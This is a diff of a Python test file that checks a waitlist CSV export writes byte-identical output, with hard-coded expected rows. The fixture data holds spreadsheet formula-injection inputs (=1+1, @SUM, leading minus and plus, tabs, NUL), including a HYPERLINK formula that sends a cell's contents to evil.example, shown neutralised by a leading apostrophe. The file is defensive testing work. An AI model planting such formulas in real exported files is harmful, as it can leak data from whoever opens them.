@@ -1,8 +1,9 @@
-"""The export's cells for awkward values: formula starts, unicode, missing values,
-dates near midnight and across daylight saving, unknown codes, numbers.
+"""The export's cells for awkward values: formula starts, unicode, NUL, missing
+values, dates near midnight and across daylight saving, unknown codes, numbers.
 
-The expected file was written by the export before it was made faster (issue 13);
-the new one must give the same bytes for the same data."""
+The expected file was written by the export before it was made faster (issue 13),
+compared with the new one's in the same test until the old one was removed: the same
+data must give the same bytes."""
 
 from __future__ import annotations
 
@@ -16,7 +17,6 @@ from intake.extensions import db
 from intake.models import ApplicationWindow
 from intake.waitlist import export
 from intake.waitlist.queries import Filters
-from tests.waitlist import old_export
 
 
 def tricky(add, programs):
@@ -49,6 +49,7 @@ def tricky(add, programs):
             access_needs=("captions", "asl_interpreter"),
             access_needs_other="=1+1",
             reference="BBBB-BBBB",
+            priority=3,
             commit=False,
         ),
         add(
@@ -61,6 +62,7 @@ def tricky(add, programs):
             availability=("weekend", "-odd", "weekday_morning"),
             access_needs=("unknown_need",),
             reference="CCCC-CCCC",
+            priority=2,
             commit=False,
         ),
         add(
@@ -73,6 +75,7 @@ def tricky(add, programs):
             languages=(),
             availability=(),
             reference="DDDD-DDDD",
+            priority=1,
             commit=False,
         ),
         add(
@@ -99,24 +102,49 @@ def tricky(add, programs):
     db.session.commit()
 
 
+# Written by the export as it was before issue 13 (row by row, ``neutralise`` on each
+# cell), from the rows above; the new one must write the same bytes.
+HEADER = (
+    "\ufeffReference,Kind,Name,Organisation or agency,E-mail,Phone,Program,Cycle,Status,"
+    "Priority,Seats,Languages,Days/times,Access needs,Joined,Days waiting,"
+    "Entered by coordinator\r\n"
+)
+ROWS = (
+    "EEEE-EEEE,individual,'-,,'@,,'=Program name,,Withdrawn,7,1,English,Weekday evenings,,"
+    "2025-11-02,120,\r\n"
+    "BBBB-BBBB,individual,'\tTabbed,\"'\rReturn\",tab@example.org,,'=Program name,,"
+    "On the waitlist,3,1,English,Weekday evenings,Live captions (CART); ASL interpreter; =1+1,"
+    "2026-03-02,0,paper\r\n"
+    "CCCC-CCCC,agency,\u00dcn\u00efc\u00f6d\u00e9 \u738b\u5c0f\u660e \uff1d\u5168\u89d2 "
+    "\u200b=zero width,'-Minus Agency,unicode@example.org,,'=Program name,,On the waitlist,2,6,"
+    "ASL (American Sign Language); \u4e2d\u6587\uff08\u666e\u901a\u8bdd Mandarin\uff09; "
+    "Espa\u00f1ol; xx,'-odd; Weekday mornings; Weekends,unknown_need,2025-11-01,120,\r\n"
+    'DDDD-DDDD,individual,"Say ""hi"", then\nleave,\r\nx",\'already quoted, '
+    "spaced@example.org, =not a formula,'=Program name,,Being reviewed,1,1,,,,,1,\r\n"
+    'AAAA-AAAA,individual,"\'=HYPERLINK(""https://evil.example/?d=""&A2,""Click"")",'
+    "'@SUM(1+1),'=evil@example.org,'+1 206 555 0100,'=Program name,'+Spring cycle,"
+    "On the waitlist,-1,1,English,Weekday evenings,'-2+3,2026-03-01,0,phone\r\n"
+)
+
+
+def export_all(app) -> str:
+    with app.test_request_context():
+        stmt = export.export_query(Filters(status="all"), scope=EVERYTHING)
+        return "".join(export.csv_chunks(stmt, app_clock.now()))
+
+
 def test_the_same_bytes_as_before(app, add, programs):
     tricky(add, programs)
-    with app.test_request_context():
-        now = app_clock.now()
-        stmt = export.export_query(Filters(status="all", sort="name"), scope=EVERYTHING)
-        new = "".join(export.csv_chunks(stmt, now))
-        old = "".join(old_export.csv_chunks(stmt, now))
-    assert new == old
-    assert new.count("'") > 10
+    assert export_all(app) == HEADER + ROWS
 
 
 def test_nul_characters(app, add, programs):
     if db.engine.dialect.name == "postgresql":
         pytest.skip("PostgreSQL refuses NUL in text")
-    add("A\x00B", email="nul@example.org", organisation="\x00=1", reference="FFFF-FFFF")
-    with app.test_request_context():
-        now = app_clock.now()
-        stmt = export.export_query(Filters(status="all"), scope=EVERYTHING)
-        new = "".join(export.csv_chunks(stmt, now))
-        old = "".join(old_export.csv_chunks(stmt, now))
-    assert new == old
+    tricky(add, programs)
+    add("A\x00B", email="nul@example.org", organisation="\x00=1", reference="FFFF-FFFF", priority=9)
+    nul = (
+        "FFFF-FFFF,individual,A\x00B,\x00=1,nul@example.org,,'=Program name,,On the waitlist,"
+        "9,1,English,Weekday evenings,,2026-03-02,0,\r\n"
+    )
+    assert export_all(app) == HEADER + nul + ROWS
